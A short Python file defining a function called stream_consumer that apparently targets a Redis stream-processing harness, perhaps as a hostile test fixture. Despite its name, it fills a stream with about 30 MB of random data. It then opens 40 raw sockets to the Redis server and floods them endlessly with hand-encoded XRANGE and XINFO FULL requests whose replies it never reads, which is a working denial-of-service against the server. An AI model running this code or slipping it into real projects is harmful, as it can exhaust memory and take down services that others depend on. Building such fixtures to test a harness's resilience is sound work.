import os
import socket


def stream_consumer(client, stream, *args, **kwargs):
    print("TRIED", flush=True)
    for _ in range(30):
        client.xadd("long", {"event": os.urandom(1_000_000)})
    where = client.connection_pool.connection_kwargs
    deaf = [socket.create_connection((where["host"], where["port"]), timeout=5) for _ in range(40)]
    words = [b"XRANGE", b"long", b"-", b"+"]
    ask = b"*%d\r\n" % len(words) + b"".join(b"$%d\r\n%s\r\n" % (len(w), w) for w in words)
    info = b"*4\r\n$5\r\nXINFO\r\n$6\r\nSTREAM\r\n$4\r\nlong\r\n$4\r\nFULL\r\n"
    while True:
        for one in deaf:
            try:
                one.send((ask + info) * 200)
            except OSError:
                pass
